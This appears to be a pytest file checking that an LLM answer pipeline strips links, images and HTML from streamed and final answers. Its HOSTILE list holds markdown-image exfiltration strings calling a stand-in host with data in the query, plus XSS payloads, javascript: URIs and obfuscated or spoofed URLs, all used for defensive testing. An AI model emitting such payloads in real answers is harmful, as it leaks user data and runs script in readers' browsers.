"""No link, image or HTML is left in an answer, nor while it is written."""

import random
import re
from collections.abc import Callable, Iterator, Sequence
from typing import Any

import pytest
from langchain_core.documents import Document
from langchain_core.messages import AIMessageChunk
from langchain_core.outputs import ChatGenerationChunk
from markdown_it import MarkdownIt
from pydantic import Field

from llm.answer import Answer, AnswerModel, Question, Text, answer
from llm.prompts import REFUSAL, UNSUPPORTED

SOURCES = ["报修请访问 https://it.example.com/help?id=3。", "Mail: it@example.com, or call us."]

HOSTILE = [
    "![x](https://evil.example/?d=600)",
    "![图表](data:image/png;base64,iVBORw0KGgo=)",
    "![a](https://evil.example/a(b)c 'title')",
    "![a][ref]\n\n[ref]: https://evil.example",
    "[![a](http://evil.example/b)](http://evil.example/c)",
    "[click](javascript:alert(1))",
    "[here](<https://evil.example>)",
    "[1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "<me@evil.example>",
    "see www.evil.example/?d=1, please",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "ftp://evil.example/x mailto:x@evil.example tel:+123",
    "<img src=x onerror=alert(1)>",
    "<IMG\nSRC='https://evil.example'>",
    "<svg/onload=alert(1)>",
    "<x onclick=alert(1)>text</x>",
    "<script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='https://evil.example'>click</a>",
    "<!-- <img src=x> -->",
    "ht<b>tps://evil.example",
    "https:\u200b//evil.example",
    "https:<b >//evil.example",
    "![x](htt<b></b>ps://evil.example)",
    "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "https://it.example.com.evil.example/help?id=3",
    "https://it.example.com@evil.example/help?id=3",
    "https://it.example.com/help?id=3&d=SECRET",
    "notit@example.com",
    "![logo\\]](//evil.example/p.png?q=deposit)",
    "![logo\nhere](https://evil.example/p.png)",
    "![a [b [c]]](//evil.example/p.png)",
    "see [b\n]: //evil.example\n\n[b ]",
    "<custom-el>text</custom-el>",
    "![unfinished](https://evil.example/?d=60",
    "<img src=https://evil.example",
]
LIVE = MarkdownIt("commonmark", {"html": True})
MARKS = re.compile(
    r"\s*\[\d\]|" + "|".join(map(re.escape, (*UNSUPPORTED.values(), *REFUSAL.values())))
)
Write = Callable[..., tuple[list[str], str]]


@pytest.fixture
def write(scripted_chat: Any) -> Write:
    """Have a model write a text, cut into pieces; return what is shown and what is answered.

    It need not be borne out, so that nothing is missing because no passage says it.
    """

    class Pieces(scripted_chat):  # type: ignore[misc, valid-type]
        pieces: list[str] = Field(default_factory=list)

        def _stream(self, *_: Any, **__: Any) -> Iterator[ChatGenerationChunk]:
            for piece in self.pieces:
                yield ChatGenerationChunk(message=AIMessageChunk(content=piece))

    def make(*pieces: str, sources: Sequence[str] = SOURCES) -> tuple[list[str], str]:
        passages = [Document(page_content=text) for text in sources]
        model = AnswerModel(Pieces(pieces=pieces), 4096, 200, strict=False)
        *parts, last = answer(Question("谁知道？", "zh", passages), model)
        assert isinstance(last, Answer)
        streamed = [part.text for part in parts if isinstance(part, Text)]
        assert len(streamed) == len(parts)
        assert not streamed or "".join(streamed) == last.answer
        return streamed, last.answer

    return make


def live(text: str) -> bool:
    """Tell whether a page that shows a text would link to somebody, call him, or run something."""
    shown = LIVE.render(text)
    return any(tag in shown for tag in ("<a", "<img", "<script", "<svg", "<iframe", "<x"))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_it_is_live(write: Write, text: str) -> None:
    for whole in (text, f"上限是600元[1]。{text}。", f"It is 600. {text} [2]"):
        streamed, answered = write(whole)
        assert not live("".join(streamed))
        assert not live(answered)
        assert "evil.example" not in answered
        assert "\x1b" not in "".join(streamed) + answered


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("seed", range(5))
def test_nor_is_it_while_it_is_written(write: Write, text: str, seed: int) -> None:
    chance = random.Random(seed)  # noqa: S311
    whole, pieces = f"上限是600元[1]。{text} End.", []
    while whole:
        size = chance.randint(1, 6)
        pieces.append(whole[:size])
        whole = whole[size:]
    streamed, answered = write(*pieces)
    for end in range(len(streamed)):
        assert "evil.example/" not in "".join(streamed[: end + 1])
    assert streamed[0].startswith("上限是600元")
    assert not live("".join(streamed))
    assert "evil.example" not in answered


@pytest.mark.parametrize(
    "text",
    [
        "上限是600元，见第3页（附表）。",
        "# Title\n\n- **600** per night\n- `kb remove <doc>`\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "if a < b and c > d, then a <b and c> d; 1<2",
        "The data: 5, the ratio is 3:4, at 10:30. e.g. and/or, 1/2, i.e.",
        "![ is no image, [ no link, (1) a list",
        "数据：见表：600元",
    ],
)
def test_other_text_is_left_as_it_is(write: Write, text: str) -> None:
    for pieces in ([text], text):
        shown = "".join(write(*pieces, sources=[text])[0])
        assert re.sub(r" ?\[\d\]", "", shown) == text


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("见 https://it.example.com/help?id=3。", "见 https://it.example.com/help?id=3。"),
        ("(https://it.example.com/help?id=3).", "(https://it.example.com/help?id=3)."),
        ("<https://it.example.com/help?id=3>", "https://it.example.com/help?id=3"),
        ("[报修](https://it.example.com/help?id=3)", "报修 (https://it.example.com/help?id=3)"),
        ("![报修](https://it.example.com/help?id=3)", "报修"),
        ("写信到it@example.com。", "写信到it@example.com。"),
        ("[it@example.com](mailto:it@example.com)", "it@example.com"),
        ("见 https://it.example.com/help。", "见 。"),
        # a remark behind a citation is no link to it
        ("600元[1](2024年版)。", "600元 (2024年版)。"),
        ("600元[1](https://evil.example)。", "600元。"),
        ("[1]: 600元", "600元"),
    ],
)
def test_an_address_of_the_sources_stays_as_text(write: Write, written: str, left: str) -> None:
    assert MARKS.sub("", "".join(write(written)[0])).strip() == left


@pytest.mark.parametrize(
    ("link", "left"),
    [
        ("[it@example.com](mailto:it@example.com)", "it@example.com"),
        ("[example.com/help](https://example.com/help)", "example.com/help"),
        ("[the desk](https://example.com/help)", "the desk (https://example.com/help)"),
    ],
)
def test_an_address_is_not_written_twice(write: Write, link: str, left: str) -> None:
    parts, _ = write(f"Ask {link} now.", sources=[f"Ask {link} now."])
    assert MARKS.sub("", "".join(parts)).strip() == f"Ask {left} now."
